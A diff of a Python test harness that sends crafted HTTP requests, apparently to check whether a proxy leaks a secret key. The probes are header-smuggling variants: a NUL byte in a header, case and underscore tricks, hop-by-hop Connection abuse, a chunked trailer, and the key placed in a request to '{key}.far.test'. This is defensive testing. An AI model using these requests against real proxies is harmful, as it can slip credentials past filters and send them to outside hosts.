@@ -26,10 +26,10 @@ def inside():
             "nul": get("/bad", f"X-Key: {key}\0"),
         },
     )
-    attack.say("passed", [get("/two", f"Authorization: Bearer {key}", f"authorization: Bearer {key}"), get("/case", f"aUTHORIZATION: Bearer {key}"), get("/underscore", f"X_Key: {key}"), get("/hop", f"Connection: X-Key", f"X-Key: {key}"), get("/name", f"{key}: x")])
+    attack.say("passed", [get("/two", f"Authorization: Bearer {key}", f"authorization: Bearer {key}"), get("/case", f"aUTHORIZATION: Bearer {key}"), get("/underscore", f"X_Key: {key}"), get("/hop", "Connection: X-Key", f"X-Key: {key}"), get("/name", f"{key}: x")])
     trailer = f"POST /trailer HTTP/1.1\r\nHost: {own}\r\nTransfer-Encoding: chunked\r\nTrailer: X-Key\r\nConnection: close\r\n\r\n1\r\nx\r\n0\r\nX-Key: {key}\r\n\r\n"
     attack.say("trailer", ask(trailer.encode()))
-    attack.say("host", get("/bad", f"X: y").replace("x", "") if False else attack.status_of(attack.ask_tls("api.far.test", 28443, attack.request("GET", "/bad", f"{key}.far.test"))))
+    attack.say("host", ask(attack.request("GET", "/bad", f"{key}.far.test")))
 
 
 def outside(trial):
